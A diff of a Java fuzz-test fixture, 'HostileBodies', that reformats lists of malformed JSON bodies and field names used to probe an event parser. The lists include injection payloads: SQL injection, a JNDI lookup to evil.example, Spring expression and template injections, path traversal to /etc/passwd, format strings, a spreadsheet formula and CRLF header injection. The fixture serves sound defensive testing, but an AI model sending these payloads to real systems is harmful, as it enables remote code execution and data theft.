@@ -27,14 +27,17 @@ public final class HostileBodies {
             "9223372036854775807", "9223372036854775808", "-9223372036854775809", "99999999999999999999999999999999", "0.1e1", "1e19",
             "8640000000000001", "253402300800000", "-62135596800001", "1795509000000.5", "\"1795509000000\"", "\"2026-02-30\"",
             "\"2026-02-28T25:61:61Z\"", "\"+999999999-12-31T23:59:59Z\"", "\"-999999999-01-01\"", "\"2026-02-28T10:00:00+99:00\"",
-            "{}", "[]", "[[]]", "[{}]", "{\"\":{\"\":\"\"}}", "[null]", "[null,{\"a\":null}]", "NaN", "Infinity", "+1", "01", ".5", "1.", "'x'",
-            "\"\\u0000\"", "\"\\u0001\\u001f\\u007f\\u0085\"", "\"\\ud800\"", "\"\\udfff\\ud800\"", "\"\\ud83d\\ude00\"", "\"\u202e\u200b\ufeff\"",
+            "{}", "[]", "[[]]", "[{}]", "{\"\":{\"\":\"\"}}", "[null]", "[null,{\"a\":null}]",
+            "NaN", "Infinity", "+1", "01", ".5", "1.", "'x'",
+            "\"\\u0000\"", "\"\\u0001\\u001f\\u007f\\u0085\"", "\"\\ud800\"", "\"\\udfff\\ud800\"",
+            "\"\\ud83d\\ude00\"", "\"\u202e\u200b\ufeff\"",
             "\"\uffff\u2028\u2029\"", "\"a\nb\"", "\"' OR '1'='1\"", "\"'; drop table event; --\"", "\"${jndi:ldap://evil.example/x}\"",
             "\"${body.class}\"", "\"#{T(java.lang.Runtime)}\"", "\"{{platform.client-secret}}\"", "\"../../../etc/passwd\"", "\"%s%n%x\"",
             "\"<script>\"", "\"a@b\"", "\"@\"", "\"+\"", "\"00000000000000000000000000000000000000000\"", "\"=cmd()\"", "\"\r\nX: y\"");
     private static final List<String> NAMES = List.of(
-            "", " ", "eventName", "eventId", "orgId", "data", "attributes", "event", "body", "createdAt", "customerIdentifiers", "customerId",
-            "entityInformation", "\\u0000", "\\u0001\\u007f", "\\ud800", "a.b", "$", "@type", "_id", "__proto__", "class", "\u202e", "x-y z", "[0]");
+            "", " ", "eventName", "eventId", "orgId", "data", "attributes", "event", "body", "createdAt",
+            "customerIdentifiers", "customerId", "entityInformation", "\\u0000", "\\u0001\\u007f", "\\ud800", "a.b", "$", "@type",
+            "_id", "__proto__", "class", "\u202e", "x-y z", "[0]");
 
     private final List<String> samples;
     private final long seed;
